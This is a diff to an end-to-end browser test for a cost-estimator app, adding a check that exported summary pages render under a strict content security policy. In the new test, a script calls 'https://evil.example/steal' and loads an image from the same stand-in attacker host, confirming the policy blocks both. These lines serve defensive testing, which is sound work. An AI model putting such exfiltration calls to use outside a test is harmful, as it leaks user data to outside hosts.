@@ -1,11 +1,12 @@
 // tests/e2e/ui_safety.test.mjs - links from strangers cannot hurt, and nothing they replace is lost: a share link
 // that is a deflate bomb is refused and the work stays; a replaced workspace comes back through File > Recover after
-// a reload; two tabs keep two autosaves.
+// a reload; two tabs keep two autosaves; the exported pages render under their strict policy, which blocks the rest.
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { deflateRawSync } from 'node:zlib';
-import { clickWidget, openDemoThroughMenu, openEstimator, quickSizePaas, useEstimatorSite, waitForFrames,
-         waitForState } from './harness.mjs';
+import { pathToFileURL } from 'node:url';
+import { artifactPath, clickWidget, downloadByClicking, dropFile, openDemoThroughMenu, openEstimator, quickSizePaas,
+         useEstimatorSite, waitForFrames, waitForState } from './harness.mjs';
 
 const site = useEstimatorSite();
 
@@ -102,5 +103,46 @@ test('two tabs edit two scenarios and each keeps its own across a reload', async
                                      'the third tab restored');
   assert.equal(adopted.scenario.name, demo.scenario.name, 'the newest autosave (the second tab wrote last)');
   assert.deepEqual([...first.consoleErrors, ...second.consoleErrors, ...third.consoleErrors], []);
+  await context.close();
+});
+
+test('the exported pages render under their policy (styles, the data: logo) and it blocks anything else', async () => {
+  const { context, page } = await openEstimator(site.browser, site.server.url);
+  const logo = 'data:image/svg+xml,' + encodeURIComponent(
+    '<svg xmlns="http://www.w3.org/2000/svg" width="24" height="8"><rect width="24" height="8" fill="#f90"/></svg>');
+  await dropFile(page, 'theme.json', JSON.stringify({ partnerName: 'Acme Cloud', accentColor: '#FF9900', logo }), 'application/json');
+  await waitForState(page, (s) => s.partner.name === 'Acme Cloud' && s.partner.logoTexture, 'the partner logo');
+  await waitForFrames(page, 3);
+  await openDemoThroughMenu(page, 'demo_onprem-400-vm.json');
+  await waitForState(page, (s) => s.scenario.workloads === 400 && s.result.ok, 'the 400-VM demo');
+  for (const [item, styled] of [['menu.cfo.summary', 'header .who'], ['menu.cfo.html', 'h2']]) {
+    await clickWidget(page, 'menu.cfo');
+    const file = await downloadByClicking(page, item, 'safety-');
+    const viewer = await context.newPage();
+    const violations = [];
+    viewer.on('console', (m) => { if (/Content Security Policy/i.test(m.text())) violations.push(m.text()); });
+    await viewer.goto(pathToFileURL(artifactPath('safety-' + file.name)).href);
+    // The inline stylesheet applies: a bold partner name, a ruled section heading.
+    const weight = await viewer.$eval(styled, (e) => getComputedStyle(e).fontWeight);
+    assert.ok(Number(weight) >= 600, `${file.name}: ${styled} is styled (font-weight ${weight})`);
+    if (item === 'menu.cfo.summary') {
+      const width = await viewer.$eval('header img', (img) => img.complete ? img.naturalWidth : -1);
+      assert.equal(width, 24, 'the data: logo is shown');
+    }
+    assert.deepEqual(violations, [], `${file.name} renders without breaking its policy`);
+    // The policy is in force: a script the page did not carry may not reach elsewhere or load an image from there.
+    const blocked = await viewer.evaluate(async () => {
+      const seen = [];
+      document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
+      await fetch('https://evil.example/steal').catch(() => {});
+      const img = new Image();
+      img.src = 'https://evil.example/pixel.png';
+      document.body.appendChild(img);
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      return seen;
+    });
+    assert.ok(blocked.includes('connect-src') && blocked.includes('img-src'), `${file.name}: ${JSON.stringify(blocked)}`);
+    await viewer.close();
+  }
   await context.close();
 });
